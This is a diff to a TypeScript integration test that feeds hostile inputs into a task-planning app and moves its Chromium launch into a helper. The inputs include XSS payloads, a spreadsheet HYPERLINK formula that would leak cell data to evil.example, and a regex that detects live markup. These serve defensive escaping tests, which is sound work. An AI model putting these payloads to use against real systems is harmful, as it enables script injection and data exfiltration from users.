@@ -8,7 +8,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { count } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
-import { chromium, type Browser, type Page } from 'playwright-core';
+import type { Browser, Page } from 'playwright-core';
 import { tasks } from '../../db/schema';
 import { renderDigest, renderNotice, type MailTask } from '../../domain/mail';
 import { createLinkSigner, linkUrl } from '../../runtime/links';
@@ -17,6 +17,7 @@ import { startStack, type TestStack } from '../helpers/stack';
 import { testConfig } from '../helpers/temporal';
 import { waitFor } from '../helpers/wait';
 import { assignTask, command, expectErrorEnvelope, LEAD, seedWorld, type World } from './helpers';
+import { launchChromium } from '../helpers/browser';
 
 const HOSTILE_TITLE = `<script>alert(1)</script><img src=x onerror=alert(2)>`;
 const HOSTILE_NOTE = `Ghi chú <b onmouseover="alert(3)">đậm</b>\n<iframe src="javascript:alert(4)"></iframe> & "nháy" 'đơn' </textarea><svg onload=alert(5)>`;
@@ -27,7 +28,6 @@ const FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem chi tiết
 /** Every fragment of the payloads that would be live markup if it were not escaped. */
 const LIVE_MARKUP = /<(?:script|img|iframe|svg)\b|<[^>]*\s(?:onerror|onload|onmouseover)\s*=|<a\b[^>]*href="javascript:/i;
 
-const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
 const REPORT_YEAR = 2025;
 
 let stack: TestStack;
@@ -41,10 +41,7 @@ beforeAll(async () => {
   await ensureWebBuilt();
   stack = await startStack({ label: 'hostile' });
   world = await seedWorld(stack);
-  browser = await chromium.launch({
-    executablePath: CHROMIUM,
-    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run'],
-  });
+  browser = await launchChromium();
 
   const renamed = await stack.request('PATCH', `/api/plans/${world.planId}`, { token: world.tokens.coordinator, body: { title: HOSTILE_PLAN } });
   expect(renamed.status).toBe(200);
